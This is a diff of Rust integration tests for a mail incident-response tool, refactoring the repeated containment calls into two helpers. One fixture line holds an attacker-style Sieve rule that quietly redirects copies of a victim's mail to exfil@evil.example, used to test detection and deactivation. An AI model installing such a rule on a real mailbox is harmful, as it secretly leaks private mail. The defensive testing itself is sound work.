@@ -321,6 +321,25 @@ fn doveadm_sieve_list(user: &str) -> String {
     String::from_utf8_lossy(&out.stdout).into_owned()
 }
 
+/// Contains `user` alone (passwords to a memory sink).
+async fn contain_one(r: &Responder, user: &str) -> cadenas::ContainReport {
+    r.contain(
+        &[user.to_owned()],
+        ContainOptions::new(Arc::new(MemorySink::default())),
+    )
+    .await
+    .expect("contain")
+}
+
+/// The revoke step of the first user of `report`.
+fn revoke_step(report: &cadenas::ContainReport) -> &cadenas::StepReport {
+    report.users[0]
+        .steps
+        .iter()
+        .find(|s| s.step == Step::RevokeSessions)
+        .expect("revoke step")
+}
+
 const EVIL: &str = "require [\"copy\"];\n# keep a copy for us\nredirect :copy \"exfil@evil.example\";\n";
 
 #[tokio::test]
@@ -366,18 +385,8 @@ async fn the_attackers_redirect_rule_is_reported_then_deactivated_by_contain_and
     assert!(doveadm_sieve_list(victim.as_str()).contains("rules ACTIVE"));
 
     // contain deactivates the active one and journals it.
-    let report = r
-        .contain(
-            &[victim.to_string()],
-            ContainOptions::new(Arc::new(MemorySink::default())),
-        )
-        .await
-        .expect("contain");
-    let revoke = report.users[0]
-        .steps
-        .iter()
-        .find(|s| s.step == Step::RevokeSessions)
-        .expect("revoke step");
+    let report = contain_one(&r, victim.as_str()).await;
+    let revoke = revoke_step(&report);
     assert_ne!(revoke.status, StepStatus::Failed, "{revoke:#?}");
     let deactivated: Vec<_> = revoke
         .detail
@@ -422,18 +431,8 @@ async fn without_disable_external_redirects_the_rule_is_reported_and_left_active
     let r = Responder::new(&cfg, &temp_journal("sieve-report"))
         .await
         .expect("responder");
-    let report = r
-        .contain(
-            &[victim.to_string()],
-            ContainOptions::new(Arc::new(MemorySink::default())),
-        )
-        .await
-        .expect("contain");
-    let revoke = report.users[0]
-        .steps
-        .iter()
-        .find(|s| s.step == Step::RevokeSessions)
-        .expect("revoke step");
+    let report = contain_one(&r, victim.as_str()).await;
+    let revoke = revoke_step(&report);
     assert_eq!(revoke.status, StepStatus::Partial, "{revoke:#?}");
     assert_eq!(revoke.detail.mail_rules.len(), 1);
     assert!(revoke.detail.mail_rules[0].active && !revoke.detail.mail_rules[0].deactivated);
